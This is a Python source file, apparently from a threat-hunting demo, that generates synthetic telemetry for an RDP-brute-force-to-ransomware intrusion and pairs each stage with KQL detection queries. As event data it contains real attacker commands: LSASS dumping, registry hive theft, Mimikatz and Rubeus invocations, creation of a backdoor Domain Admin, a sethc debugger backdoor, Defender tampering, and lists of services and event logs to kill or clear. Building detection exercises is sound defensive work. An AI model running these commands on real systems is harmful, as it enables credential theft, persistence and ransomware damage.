"""Story 3, "Exposed RDP to ransomware": a brute force against the jump server's Remote Desktop
from the Internet succeeds for an IT account; the intruder dumps credentials (procdump on
LSASS, registry hives, Mimikatz, Rubeus), maps Active Directory with AdFind (LDAP bursts the
domain controller sees), scans the network, creates a backdoor account and adds it to Domain
Admins, weakens Defender and enables RDP persistence, beacons with an argument-less rundll32,
copies a payload with PsExec to the file servers and the domain controller (NTDS snapshot with
ntdsutil), then, about six hours before the end of the period, kills services, deletes shadow
copies and backups, clears event logs and encrypts the file shares.

Times are counted back from the tenant's end, so `ago(1d)` finds the encryption."""
from __future__ import annotations

import numpy as np

from hunt.store.demo import tenant as TN
from hunt.store.demo.storykit import Proc, encoded, js

US = TN.US
MIN = 60 * US
HOUR = 60 * MIN

SERVICES_TO_STOP = ["WinDefend", "Sense", "MSSQLSERVER", "SQLSERVERAGENT", "SQLWriter", "MSExchangeIS", "MSExchangeTransport", "VeeamBackupSvc",
                    "VeeamTransportSvc", "BackupExecJobEngine", "wuauserv", "SstpSvc", "vss", "MySQL80", "Sophos Agent", "W3SVC"]
PROCS_TO_KILL = ["sqlservr.exe", "sqlwriter.exe", "sqlagent.exe", "sqlbrowser.exe", "sqlceip.exe", "mysqld.exe",
                 "mysqld-nt.exe", "mysqld-opt.exe", "sqlbootstrapper.exe", "sqlsqm.exe", "sqlmangr.exe", "msmdsrv.exe"]
APPS_TO_KILL = ["outlook.exe", "winword.exe", "excel.exe", "powerpnt.exe", "onenote.exe", "msaccess.exe", "thunderbird.exe",
                "firefox.exe", "notepad.exe", "wordpad.exe", "steam.exe", "veeam.backup.shell.exe", "ocssd.exe", "dbsnmp.exe"]
LOGS_TO_CLEAR = ["Security", "System", "Application", "Windows PowerShell", "Setup", "Microsoft-Windows-PowerShell/Operational",
                 "Microsoft-Windows-TerminalServices-LocalSessionManager/Operational", "Microsoft-Windows-Sysmon/Operational",
                 "Microsoft-Windows-TaskScheduler/Operational", "Microsoft-Windows-WMI-Activity/Operational",
                 "Microsoft-Windows-Windows Defender/Operational", "Microsoft-Windows-SMBServer/Security"]
SERVICES_TO_DISABLE = ["WinDefend", "wscsvc", "SecurityHealthService", "Sense", "WdNisSvc", "VSS", "wbengine", "swprv",
                       "SQLWriter", "VeeamDeploymentService", "MSExchangeSA", "BITS", "EventLog"]


def story_ransomware(S):
    gen, t, k = S.gen, S.t, S.kit
    A, D, ids = t.accounts, t.devices, t.ids
    world = gen.world
    E, span = t.end_us, t.end_us - t.start_us

    def T(hours: float) -> int:
        """A time `hours` before the end (the timeline shrinks on short periods)."""
        h = hours if span >= 40 * HOUR else hours * span / (40 * HOUR)
        return E - int(h * HOUR)

    jump = (t.role_devices.get("jump") or t.servers)[0]
    files = (t.role_devices.get("file") or t.servers)[:2]
    backup = (t.role_devices.get("backup") or t.servers)[0]
    targets = list(dict.fromkeys(files + [backup]))
    dc = t.dcs[-1]
    it = [p for p in t.people if A.dept[p] == "IT"] or t.people
    victim = it[ids.integer(0, len(it), "s3victim")]
    rdp_ip = ids.public_ip(["193.42.32.0/22", "45.141.84.0/22", "80.66.76.0/22"], "s3rdp", t.cfg.seed)
    c2 = ["update-cloudfront-cdn.com", "msoffice-telemetry.net", "azure-status-check.com"][t.cfg.seed % 3]
    c2_ip = ids.public_ip(["91.215.85.0/24", "179.43.187.0/24"], "s3c2", t.cfg.seed)
    t.domain_ips.setdefault(c2, [c2_ip])
    payload = ["w7k2qd9", "x3mz81p", "k9d4r2t"][t.cfg.seed % 3] + ".exe"
    ext = ["kraken", "lockd", "crpt7"][t.cfg.seed % 3]
    note = "README_RESTORE_FILES.txt"
    backdoor = ["helpdesk_adm", "svc_backup2", "it_support"][t.cfg.seed % 3]
    backdoor_sid = f"{t.domain_sid}-{ids.integer(7000, 9000, 's3bd')}"
    backdoor_oid = ids.guid("s3bd-oid")
    tools = r"C:\Users\Public\Music"
    jump_ip = D.ip[jump]
    story = {"id": "rdp-to-ransomware", "title": "Exposed RDP to ransomware",
             "summary": (f"A Remote Desktop brute force from {rdp_ip} succeeds on {D.short[jump]} for {A.upn[victim]}; "
                         f"the intruder dumps credentials, maps Active Directory with AdFind, creates '{backdoor}' and adds "
                         f"it to Domain Admins, beacons to {c2}, spreads {payload} with PsExec to "
                         f"{', '.join(D.short[d] for d in targets)} and {D.short[dc]}, deletes backups and shadow copies, "
                         f"clears event logs and encrypts the file shares (extension .{ext})."),
             "victim": {"account": A.sam[victim], "upn": A.upn[victim], "object_id": A.oid[victim], "sid": A.sid[victim],
                        "device": D.name[jump], "device_id": D.id[jump], "ip": jump_ip},
             "indicators": {"attacker_ip": rdp_ip, "c2_domain": c2, "c2_ip": c2_ip, "payload": payload,
                            "extension": "." + ext, "ransom_note": note, "backdoor_account": backdoor, "tools_folder": tools},
             "stages": []}
    im, r = world.images, gen.r
    for key, name, company, product, desc, size in [
            ("x_procdump", "procdump64.exe", "Sysinternals - www.sysinternals.com", "ProcDump", "Sysinternals process dump utility", 424_856),
            ("x_adfind", "AdFind.exe", "joeware.net", "AdFind", "Joeware ADFind", 1_601_536),
            ("x_rubeus", "Rubeus.exe", "", "", "", 446_976),
            ("x_mimikatz", "m64.exe", "gentilkiwi (Benjamin DELPY)", "mimikatz", "mimikatz for Windows", 1_355_264),
            ("x_netscan", "netscan.exe", "SoftPerfect", "Network Scanner", "SoftPerfect Network Scanner", 5_204_992),
            ("x_psexec64", "PsExec64.exe", "Sysinternals - www.sysinternals.com", "Sysinternals PsExec", "Execute processes remotely", 833_472),
            ("x_payload", payload, "", "", "", 2_187_264)]:
        im.add(t, r, key, name, tools, company, product, desc, "", "", size)
    for name, prev, threat in [("procdump64.exe", 90_000, ""), ("AdFind.exe", 6_000, "HackTool:Win32/AdFind"),
                               ("Rubeus.exe", 40, "HackTool:MSIL/Rubeus"), ("m64.exe", 25, "HackTool:Win64/Mimikatz"),
                               ("netscan.exe", 9_000, ""), (payload, 1, "Ransom:Win64/Kraken.A")]:
        k.add_profile(name, prev, threat, executable=True, first_seen=T(40))

    sess_cache: dict = {}

    def sess_at(ts):
        """The long-lived processes alive at ts (computed once per 6-hour bucket)."""
        b = ts // (6 * HOUR)
        if b not in sess_cache:
            sess_cache[b] = world.sessions_for_day(np.full(world.ndev, b * 6 * HOUR, dtype=np.int64))
        return sess_cache[b]

    def bg(key, dev, ts):
        sess, idx = sess_at(ts)
        row = int(idx[key][dev])
        return k.from_background(sess, row)

    def net(p: Proc, ts, rip, rport, url="", action="ConnectionSuccess", rtype="Public", lport=None, inbound=False):
        row = {**k.by(p), "ActionType": action, "RemoteIP": rip, "RemotePort": rport, "RemoteUrl": url,
               "LocalIP": D.ip[p.dev], "LocalPort": lport or 49152 + (ts // US) % 16000, "Protocol": "Tcp",
               "LocalIPType": "Private", "RemoteIPType": rtype, "ReportId": 9_300_000_000 + (ts // 1000) % 1_000_000_000}
        k.add("DeviceNetworkEvents", ts, row)

    def filerow(p: Proc, ts, action, folder, name, extra=None, ident=None):
        f = k.file(ident or name)
        row = {**k.by(p), "ActionType": action, "FileName": name, "FolderPath": folder + "\\" + name,
               "SHA1": f["sha1"], "SHA256": f["sha256"], "MD5": f["md5"], "FileSize": int(f["size"]),
               "RequestProtocol": "Local", "ReportId": 9_310_000_000 + (ts // 1000) % 1_000_000_000}
        row.update(extra or {})
        k.add("DeviceFileEvents", ts, row)

    def devevent(p, ts, action, extra=None):
        row = {**k.by(p), "ActionType": action, "ReportId": 9_320_000_000 + (ts // 1000) % 1_000_000_000}
        row.update(extra or {})
        k.add("DeviceEvents", ts, row)

    def reg(p, ts, key, name, data, action="RegistryValueSet", vtype="Dword"):
        k.add("DeviceRegistryEvents", ts, {**k.by(p), "ActionType": action, "RegistryKey": key, "RegistryValueType": vtype,
                                           "RegistryValueName": name, "RegistryValueData": data,
                                           "ReportId": 9_330_000_000 + (ts // 1000) % 1_000_000_000})

    def logon(dev, ts, action, acct: dict, ltype, rip, rtype="Public", rname="", proto="Negotiate", failure="", admin=False):
        lsass = bg("lsass", dev, ts)
        k.add("DeviceLogonEvents", ts, {**k.by(lsass), "ActionType": action, "LogonType": ltype, **acct, "Protocol": proto,
                                        "FailureReason": failure, "IsLocalAdmin": admin, "LogonId": 0 if failure else ids.integer(10**6, 9 * 10**7, "s3lid", ts),
                                        "RemoteDeviceName": rname, "RemoteIP": rip, "RemoteIPType": rtype, "RemotePort": 50000 + ts // US % 15000,
                                        "ReportId": 9_340_000_000 + (ts // 1000) % 1_000_000_000,
                                        "AdditionalFields": js({"IsLocalLogon": ltype in ("Interactive", "RemoteInteractive")})})

    victim_acc = {kk: vv for kk, vv in k.acc(victim).items() if kk in ("AccountName", "AccountDomain", "AccountSid")}

    # 1. brute force against Remote Desktop --------------------------------------------------
    t_bf = T(31) // (15 * MIN) * (15 * MIN) + MIN
    guesses = ["administrator", "admin", "user", "test", "scanner", "backup", "support", "guest", "rdp", "helpdesk",
               A.sam[victim], "sql", "server", "it"]
    n_fail = 0
    for j in range(64):
        ts = t_bf + j * 2 * US + (j % 4) * 100_000
        name = guesses[j % len(guesses)]
        if name == A.sam[victim] and j < 60:
            acc = victim_acc
        else:
            acc = {"AccountName": name, "AccountDomain": D.short[jump].upper(), "AccountSid": ""}
        logon(jump, ts, "LogonFailed", acc, "Network", rdp_ip, failure="InvalidUserNameOrPassword" if acc is not victim_acc else "WrongPassword",
              proto="NTLM")
        n_fail += 1
        if acc is victim_acc:
            k.add("IdentityLogonEvents", ts, {"ActionType": "LogonFailed", "Application": "Active Directory", "LogonType": "Credentials validation",
                                              "Protocol": "Ntlm", "FailureReason": "WrongPassword", **k.acc(victim),
                                              "AccountDisplayName": A.display[victim], "DeviceName": D.name[jump], "DeviceType": "Server",
                                              "OSPlatform": "Windows Server 2022", "IPAddress": jump_ip, "Port": 50000 + j,
                                              "DestinationDeviceName": D.name[dc], "DestinationIPAddress": D.ip[dc], "DestinationPort": 445,
                                              "ReportId": ids.guid("s3idf", j), "AdditionalFields": js({"Count": 1, "Source Account": A.sam[victim]})})
    # more guesses against the account through NTLM, enough to be a brute force on its own
    for j in range(24):
        ts = t_bf + 10 * US + j * 5 * US
        k.add("IdentityLogonEvents", ts, {"ActionType": "LogonFailed", "Application": "Active Directory", "LogonType": "Credentials validation",
                                          "Protocol": "Ntlm", "FailureReason": "WrongPassword", **k.acc(victim),
                                          "AccountDisplayName": A.display[victim], "DeviceName": D.name[jump], "DeviceType": "Server",
                                          "OSPlatform": "Windows Server 2022", "IPAddress": jump_ip, "Port": 51000 + j,
                                          "DestinationDeviceName": D.name[dc], "DestinationIPAddress": D.ip[dc], "DestinationPort": 445,
                                          "ReportId": ids.guid("s3idg", j), "AdditionalFields": js({"Count": 1})})
    t_in = t_bf + 3 * MIN
    logon(jump, t_in, "LogonSuccess", victim_acc, "Network", rdp_ip, proto="NTLM")
    logon(jump, t_in + 3 * US, "LogonSuccess", victim_acc, "RemoteInteractive", rdp_ip, proto="Negotiate", admin=True)
    k.add("IdentityLogonEvents", t_in, {"ActionType": "LogonSuccess", "Application": "Active Directory", "LogonType": "Credentials validation",
                                        "Protocol": "Ntlm", **k.acc(victim), "AccountDisplayName": A.display[victim],
                                        "DeviceName": D.name[jump], "DeviceType": "Server", "OSPlatform": "Windows Server 2022",
                                        "IPAddress": jump_ip, "Port": 51999, "DestinationDeviceName": D.name[dc],
                                        "DestinationIPAddress": D.ip[dc], "DestinationPort": 445, "ReportId": ids.guid("s3ids"),
                                        "AdditionalFields": js({"Count": 1})})
    termsvc = bg("svc_termsvc", jump, t_in)
    k.add("DeviceNetworkEvents", t_in - 20 * US, {**k.by(termsvc), "ActionType": "InboundConnectionAccepted", "RemoteIP": rdp_ip,
                                                  "RemotePort": 61234, "LocalIP": jump_ip, "LocalPort": 3389, "Protocol": "Tcp",
                                                  "LocalIPType": "Private", "RemoteIPType": "Public", "ReportId": 9_350_000_001})
    S._stage(story, "rdp-brute-force", f"{n_fail} failed logons from {rdp_ip}, then Remote Desktop succeeds", t_bf,
             ["DeviceLogonEvents", "IdentityLogonEvents", "DeviceNetworkEvents"],
             {"device": D.name[jump], "ip": rdp_ip, "account": A.upn[victim]},
             f"""DeviceLogonEvents
| where RemoteIP == "{rdp_ip}"
| summarize Failed = countif(ActionType == "LogonFailed"), Succeeded = countif(ActionType == "LogonSuccess"),
            Accounts = dcount(AccountName) by DeviceName, RemoteIP
| where Failed > 10 and Succeeded > 0""", "T1110.001")
    # the intruder changes the account's password so that nobody else gets in
    k.add("IdentityDirectoryEvents", t_in + 6 * MIN, {"ActionType": "Account Password changed", "Application": "Active Directory",
                                                      "TargetAccountUpn": A.upn[victim], "TargetAccountDisplayName": A.display[victim],
                                                      "TargetDeviceName": "", "DestinationDeviceName": D.name[dc],
                                                      "DestinationIPAddress": D.ip[dc], "DestinationPort": 445, "Protocol": "Samr",
                                                      **k.acc(victim), "AccountDisplayName": A.display[victim], "DeviceName": D.name[jump],
                                                      "IPAddress": jump_ip, "Port": 52011, "ReportId": ids.guid("s3pwd"),
                                                      "AdditionalFields": js({"TARGET_OBJECT.USER": A.sam[victim], "ACTOR.ACCOUNT": A.sam[victim]})})

    # 2. the intruder's desktop on the jump server -------------------------------------------
    winlogon = bg("winlogon", jump, t_in)
    userinit = k.spawn(winlogon, "userinit", r"C:\Windows\system32\userinit.exe", t_in + 5 * US, acct=victim, integ="High")
    explorer = k.spawn(userinit, "explorer", r"C:\Windows\Explorer.EXE", t_in + 6 * US, integ="High")
    rdl = k.spawn(explorer, "rundll32", "rundll32.exe", t_in + 25 * MIN, integ="High")   # the beacon, no arguments
    for j in range(14):
        ts = t_in + 25 * MIN + 5 * US + j * 17 * MIN
        net(rdl, ts, c2_ip, 443, c2 if j % 3 == 0 else "")
    devevent(rdl, t_in + 25 * MIN + 9 * US, "NamedPipeEvent",
             {"AdditionalFields": js({"PipeName": "\\Device\\NamedPipe\\postex_" + ids.hex(4, "s3pipe"), "FileOperation": "File created",
                                      "NamedPipeEnd": "Server", "DesiredAccess": 1180063, "ShareMode": 3})})
    cmd = k.spawn(explorer, "cmd", r'"C:\Windows\system32\cmd.exe" ', t_in + 3 * MIN, integ="High")
    t_tools = t_in + 4 * MIN
    for j, name in enumerate(["procdump64.exe", "AdFind.exe", "Rubeus.exe", "m64.exe", "netscan.exe", "PsExec64.exe", payload]):
        filerow(explorer, t_tools + j * 2 * US, "FileCreated", tools, name,
                {"RequestProtocol": "Local", "FileOriginUrl": "", "AdditionalFields": js({"FileType": "PortableExecutable"})})
    # credential access
    t_c = t_in + 9 * MIN
    lsass = bg("lsass", jump, t_c)
    pd = k.spawn(cmd, "x_procdump", rf"{tools}\procdump64.exe -accepteula -ma lsass.exe C:\ProgramData\lsass.dmp", t_c, folder=tools + r"\procdump64.exe")
    devevent(pd, t_c + US, "OpenProcessApiCall", {"FileName": "lsass.exe", "FolderPath": r"C:\Windows\System32\lsass.exe",
                                                   "ProcessId": lsass.pid, "AdditionalFields": js({"DesiredAccess": 2097151})})
    filerow(pd, t_c + 2 * US, "FileCreated", r"C:\ProgramData", "lsass.dmp", ident="s3-lsass.dmp")
    for j, hive in enumerate(["sam", "system", "security"]):
        p = k.spawn(cmd, "reg", rf"reg  save hklm\{hive} C:\ProgramData\{hive}.save", t_c + (20 + j * 3) * US)
        filerow(p, t_c + (21 + j * 3) * US, "FileCreated", r"C:\ProgramData", f"{hive}.save", ident=f"s3-{hive}.save")
    mk = k.spawn(cmd, "x_mimikatz", rf'{tools}\m64.exe "privilege::debug" "sekurlsa::logonpasswords" "sekurlsa::tickets /export" exit',
                 t_c + 2 * MIN, folder=tools + r"\m64.exe")
    devevent(mk, t_c + 2 * MIN + US, "OpenProcessApiCall", {"FileName": "lsass.exe", "FolderPath": r"C:\Windows\System32\lsass.exe",
                                                            "ProcessId": lsass.pid, "AdditionalFields": js({"DesiredAccess": 5136})})
    rb = k.spawn(cmd, "x_rubeus", rf"{tools}\Rubeus.exe kerberoast /outfile:C:\ProgramData\h.txt", t_c + 5 * MIN, folder=tools + r"\Rubeus.exe")
    k.spawn(cmd, "x_rubeus", rf"{tools}\Rubeus.exe asreproast /format:hashcat", t_c + 6 * MIN, folder=tools + r"\Rubeus.exe")
    net(rb, t_c + 5 * MIN + US, D.ip[dc], 88, "", rtype="Private")
    S._stage(story, "credential-dumping", "LSASS dump, registry hives, Mimikatz and Rubeus on the jump server", t_c,
             ["DeviceProcessEvents", "DeviceFileEvents", "DeviceEvents"],
             {"device": D.name[jump], "tools": ["procdump64.exe", "m64.exe", "Rubeus.exe"], "folder": tools},
             f"""DeviceProcessEvents
| where DeviceName == "{D.name[jump]}" and FolderPath startswith @"{tools}"
| where ProcessCommandLine has_any ("lsass", "sekurlsa", "kerberoast", "asreproast")
| project Timestamp, DeviceName, AccountName, FileName, ProcessCommandLine""", "T1003.001")

    # 3. discovery: AdFind, LDAP as the domain controller sees it, a network scan --------------
    t_d = (t_in + 22 * MIN) // MIN * MIN + 2 * US
    base = "DC=" + ",DC=".join(t.ad_domain.split("."))
    adfind = [("ad_users.txt", '-f "(objectcategory=person)"', "(objectCategory=person)"),
              ("ad_computers.txt", '-f "objectcategory=computer"', "(objectCategory=computer)"),
              ("ad_ous.txt", '-f "(objectcategory=organizationalUnit)"', "(objectCategory=organizationalUnit)"),
              ("ad_group.txt", '-sc group_members "Domain Admins"', "(&(objectCategory=group)(cn=Domain Admins))"),
              ("subnets.txt", '-subnets -f (objectCategory=subnet)', "(objectCategory=subnet)"),
              ("trustdmp.txt", '-gcb -sc trustdmp', "(objectClass=trustedDomain)"),
              ("domainlist.txt", '-sc domainlist', "(objectClass=domainDNS)"),
              ("dcmodes.txt", '-sc dcmodes', "(objectClass=nTDSDSA)"),
              ("pwdnotreqd.txt", '-sc computers_pwdnotreqd', "(&(objectCategory=computer)(userAccountControl:1.2.840.113556.1.4.803:=32))"),
              ("asrep.txt", '-f "(&(objectCategory=person)(objectClass=user)(userAccountControl:1.2.840.113556.1.4.803:=4194304))"',
               "(&(objectCategory=person)(objectClass=user)(userAccountControl:1.2.840.113556.1.4.803:=4194304))"),
              ("spn.txt", '-f "(&(objectClass=user)(servicePrincipalName=*))"', "(&(objectClass=user)(servicePrincipalName=*))"),
              ("desc.txt", '-f "(&(objectCategory=person)(description=*pass*))"', "(&(objectCategory=person)(description=*pass*))"),
              ("admins.txt", '-f "(&(objectCategory=person)(adminCount=1))"', "(&(objectCategory=person)(adminCount=1))")]
    for j, (out, args, flt) in enumerate(adfind):
        ts = t_d + j * 3 * US
        c = k.spawn(cmd, "cmd", f'cmd.exe /c "{tools}\\AdFind.exe {args} > {tools}\\{out}"', ts)
        a = k.spawn(c, "x_adfind", f"{tools}\\AdFind.exe {args}", ts + 60_000, folder=tools + r"\AdFind.exe")
        filerow(c, ts + 300_000, "FileCreated", tools, out, ident="s3-" + out)
        k.add("IdentityQueryEvents", ts + 100_000, {"ActionType": "LDAP query", "Application": "Active Directory",
                                                    "QueryType": ["AllUsers", "AllComputers", "AllOrganizationalUnits", "QueryGroup", "AllSubnets",
                                                                  "AllTrustedDomains", "AllDomains", "AllDomainControllers", "AllComputers",
                                                                  "AllUsers", "AllServicePrincipalNames", "AllUsers", "AllUsers"][j],
                                                    "QueryTarget": "Domain Admins" if "Domain Admins" in flt else t.ad_domain,
                                                    "Query": f"Search Scope: WholeSubtree, Base Object:{base}, Search Filter: {flt}",
                                                    "Protocol": "Ldap", **k.acc(victim), "AccountDisplayName": A.display[victim],
                                                    "DeviceName": D.name[jump], "IPAddress": jump_ip, "Port": 53100 + j,
                                                    "DestinationDeviceName": D.name[dc], "DestinationIPAddress": D.ip[dc], "DestinationPort": 389,
                                                    "ReportId": ids.guid("s3ldap", j), "AdditionalFields": js({"AttributeList": ["*"], "SizeLimit": 0})})
        net(a, ts + 120_000, D.ip[dc], 389, "", rtype="Private")
    k.add("IdentityQueryEvents", t_d + 70 * US, {"ActionType": "SAMR query", "Application": "Active Directory", "QueryType": "QueryGroup",
                                                 "QueryTarget": "Domain Admins", "Query": "QueryGroup", "Protocol": "Samr", **k.acc(victim),
                                                 "AccountDisplayName": A.display[victim], "DeviceName": D.name[jump], "IPAddress": jump_ip,
                                                 "Port": 53200, "DestinationDeviceName": D.name[dc], "DestinationIPAddress": D.ip[dc],
                                                 "DestinationPort": 445, "ReportId": ids.guid("s3samr"), "AdditionalFields": "{}"})
    k.spawn(cmd, "reg", 'reg query "HKEY_CURRENT_USER\\Software\\Microsoft\\Terminal Server Client\\Default"', t_d + 2 * MIN)
    t_s = t_d + 5 * MIN
    ns = k.spawn(explorer, "x_netscan", rf'"{tools}\netscan.exe" /hide /auto:"{tools}\result.xml" /config:"{tools}\netscan.xml" /range:10.0.0.1-10.255.255.254',
                 t_s, folder=tools + r"\netscan.exe")
    peers = [d for d in range(len(D)) if D.cls[d] in (TN.SRV, TN.DC, TN.WS) and d != jump][:80]
    for j, d in enumerate(peers):
        for port in (445, 3389) if j % 3 else (445, 3389, 135):
            net(ns, t_s + j * 700_000 + port * 10, D.ip[d], port, "", action="ConnectionSuccess" if port == 445 or j % 2 else "ConnectionFailed",
                rtype="Private")
    S._stage(story, "discovery", "AdFind exports, an LDAP burst at the domain controller and a network scan", t_d,
             ["DeviceProcessEvents", "IdentityQueryEvents", "DeviceNetworkEvents"],
             {"device": D.name[jump], "domain_controller": D.name[dc], "tool": "AdFind.exe", "scanner": "netscan.exe"},
             f"""IdentityQueryEvents
| where ActionType == "LDAP query" and DeviceName == "{D.name[jump]}"
| summarize Queries = count(), Filters = dcount(Query) by DeviceName, AccountName, bin(Timestamp, 1m)
| where Filters >= 10""", "T1087.002")

    # 4. persistence: a backdoor domain admin, RDP settings, Defender weakened ----------------
    t_p = (t_in + 55 * MIN) // (5 * MIN) * (5 * MIN) + 3 * US
    netcmds = [f"net  user {backdoor} Summer2024!x /add /domain", f'net  group "Domain Admins" {backdoor} /add /domain',
               f'net  group "Enterprise Admins" {backdoor} /add /domain', f'net  localgroup administrators {backdoor} /add',
               f'net  localgroup "Remote Desktop Users" {backdoor} /add', "net  group \"Domain Admins\" /domain",
               "net  user /domain", "net  user admin /domain", "net  accounts /domain", "net  group \"Domain Computers\" /domain",
               f"net  user {backdoor} /domain", "net  localgroup administrators", "net  group \"Enterprise Admins\" /domain"]
    for j, c in enumerate(netcmds):
        ts = t_p + j * 25 * US
        p = k.spawn(cmd, "net", c, ts)
        k.spawn(p, "net1", "C:\\Windows\\system32\\net1 " + c.split("  ", 1)[1], ts + 40_000)
    dc_sess = bg("lsass", dc, t_p)
    k.add("IdentityDirectoryEvents", t_p + US, {"ActionType": "Account Created", "Application": "Active Directory",
                                                "TargetAccountUpn": f"{backdoor}@{t.ad_domain}", "TargetAccountDisplayName": backdoor,
                                                "DestinationDeviceName": D.name[dc], "DestinationIPAddress": D.ip[dc], "DestinationPort": 445,
                                                "Protocol": "Samr", **k.acc(victim), "AccountDisplayName": A.display[victim],
                                                "DeviceName": D.name[jump], "IPAddress": jump_ip, "Port": 52101, "ReportId": ids.guid("s3new"),
                                                "AdditionalFields": js({"TARGET_OBJECT.USER": backdoor, "ACTOR.ACCOUNT": A.sam[victim]})})
    for j, grp in enumerate(["Domain Admins", "Enterprise Admins"]):
        k.add("IdentityDirectoryEvents", t_p + (26 + 25 * j) * US,
              {"ActionType": "Group Membership changed", "Application": "Active Directory",
               "TargetAccountUpn": f"{backdoor}@{t.ad_domain}", "TargetAccountDisplayName": backdoor,
               "DestinationDeviceName": D.name[dc], "DestinationIPAddress": D.ip[dc], "DestinationPort": 445, "Protocol": "Samr",
               **k.acc(victim), "AccountDisplayName": A.display[victim], "DeviceName": D.name[jump], "IPAddress": jump_ip,
               "Port": 52102 + j, "ReportId": ids.guid("s3grp", j),
               "AdditionalFields": js({"TO.GROUP": grp, "TARGET_OBJECT.USER": backdoor, "ACTOR.ACCOUNT": A.sam[victim],
                                       "TARGET_OBJECT.GROUP": grp, "ACTOR.DEVICE": D.short[jump]})})
    for ts in sorted({min(t_p + HOUR, E - MIN), E - 2 * MIN}):
        k.add("IdentityInfo", ts, {"AccountObjectId": backdoor_oid, "AccountUpn": f"{backdoor}@{t.ad_domain}", "OnPremSid": backdoor_sid,
                                   "AccountDisplayName": backdoor, "AccountName": backdoor, "AccountDomain": t.ad_domain,
                                   "Type": "User", "DistinguishedName": f"CN={backdoor},CN=Users," + base,
                                   "IsAccountEnabled": True, "CreatedDateTime": t_p, "ChangeSource": "ActiveDirectory",
                                   "CriticalityLevel": 4, "Tags": js(["Sensitive"]), "SourceProvider": "ActiveDirectory",
                                   "ReportId": ids.guid("s3ii", ts)})
    devevent(dc_sess, t_p + 2 * US, "UserAccountCreated", {"AccountName": backdoor, "AccountDomain": t.domain, "AccountSid": backdoor_sid,
                                                           "AdditionalFields": js({"TargetAccountName": backdoor})})
    devevent(bg("lsass", jump, t_p), t_p + 80 * US, "UserAccountAddedToLocalGroup",
             {"AccountName": backdoor, "AccountDomain": t.domain, "AccountSid": backdoor_sid,
              "AdditionalFields": js({"GroupName": "Administrators", "GroupDomainName": "BUILTIN", "GroupSid": "S-1-5-32-544"})})
    t_r = t_p + 6 * MIN
    regs = [(r'reg  add "HKLM\SYSTEM\CurrentControlSet\Control\Terminal Server" /v fDenyTSConnections /t REG_DWORD /d 0 /f',
             r"HKEY_LOCAL_MACHINE\SYSTEM\ControlSet001\Control\Terminal Server", "fDenyTSConnections", "0"),
            (r'reg  add "HKLM\SYSTEM\CurrentControlSet\Control\Terminal Server" /v AllowTSConnections /t REG_DWORD /d 1 /f',
             r"HKEY_LOCAL_MACHINE\SYSTEM\ControlSet001\Control\Terminal Server", "AllowTSConnections", "1"),
            (rf'reg  add "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon\SpecialAccounts\UserList" /v {backdoor} /t REG_DWORD /d 0 /f',
             r"HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon\SpecialAccounts\UserList", backdoor, "0"),
            (r'reg  add HKLM\SYSTEM\CurrentControlSet\Control\SecurityProviders\WDigest /v UseLogonCredential /t REG_DWORD /d 1 /f',
             r"HKEY_LOCAL_MACHINE\SYSTEM\ControlSet001\Control\SecurityProviders\WDigest", "UseLogonCredential", "1"),
            (r'reg  add "HKLM\SOFTWARE\Policies\Microsoft\Windows Defender" /v DisableAntiSpyware /t REG_DWORD /d 1 /f',
             r"HKEY_LOCAL_MACHINE\SOFTWARE\Policies\Microsoft\Windows Defender", "DisableAntiSpyware", "1")]
    for j, (c, key, name, data) in enumerate(regs):
        p = k.spawn(cmd, "reg", c, t_r + j * 3 * US)
        reg(p, t_r + j * 3 * US + 100_000, key, name, data)
    sk = k.spawn(cmd, "reg", r'reg  add "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Image File Execution Options\sethc.exe" /v Debugger /t REG_SZ /d "C:\windows\system32\cmd.exe" /f',
                 t_r + 20 * US)
    reg(sk, t_r + 20 * US + 100_000, r"HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Image File Execution Options\sethc.exe",
        "Debugger", r"C:\windows\system32\cmd.exe", vtype="String")
    ps_def = ['Set-MpPreference -DisableRealtimeMonitoring $true -DisableBehaviorMonitoring $true -DisableIOAVProtection $true',
              r'Add-MpPreference -ExclusionPath "C:\Users\Public","C:\ProgramData" -ExclusionProcess "' + payload + '"',
              'Set-MpPreference -EnableControlledFolderAccess Disabled']
    for j, script in enumerate(ps_def):
        ps = k.spawn(cmd, "powershell", f'powershell.exe -command "{script}"', t_r + (30 + j * 4) * US)
        devevent(ps, t_r + (31 + j * 4) * US, "TamperingAttempt",
                 {"AdditionalFields": js({"TamperingAction": "RegistryModification", "Status": "Blocked" if j == 0 else "Succeeded",
                                          "Target": "HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Real-Time Protection" if j == 0 else
                                          "HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Exclusions"})})
        if j == 1:
            msmp = bg("msmpeng", jump, t_r)
            for folder in (r"C:\Users\Public", r"C:\ProgramData"):
                reg(msmp, t_r + 36 * US, r"HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Windows Defender\Exclusions\Paths", folder, "0")
            reg(msmp, t_r + 36 * US, r"HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Windows Defender\Exclusions\Processes", payload, "0")
    k.spawn(cmd, "sc", "sc  stop WinDefend", t_r + 50 * US)
    S._stage(story, "persistence", f"Backdoor account '{backdoor}' in Domain Admins, RDP opened, Defender weakened", t_p,
             ["DeviceProcessEvents", "IdentityDirectoryEvents", "DeviceRegistryEvents", "DeviceEvents"],
             {"account": backdoor, "groups": ["Domain Admins", "Enterprise Admins"], "device": D.name[jump]},
             f"""IdentityDirectoryEvents
| where ActionType == "Group Membership changed"
| extend Group = tostring(AdditionalFields["TO.GROUP"]), Member = tostring(AdditionalFields["TARGET_OBJECT.USER"])
| where Group in ("Domain Admins", "Enterprise Admins") and Member == "{backdoor}"
| project Timestamp, Group, Member, AccountName, DeviceName""", "T1136.002")

    # 5. lateral movement with PsExec, NTDS snapshot on the domain controller -------------------
    t_l = T(10)
    winlogon2 = bg("winlogon", jump, t_l)
    ui2 = k.spawn(winlogon2, "userinit", r"C:\Windows\system32\userinit.exe", t_l - 2 * MIN, acct=victim, integ="High")
    ex2 = k.spawn(ui2, "explorer", r"C:\Windows\Explorer.EXE", t_l - 2 * MIN + US, integ="High")
    logon(jump, t_l - 2 * MIN - US, "LogonSuccess", victim_acc, "RemoteInteractive", rdp_ip, admin=True)
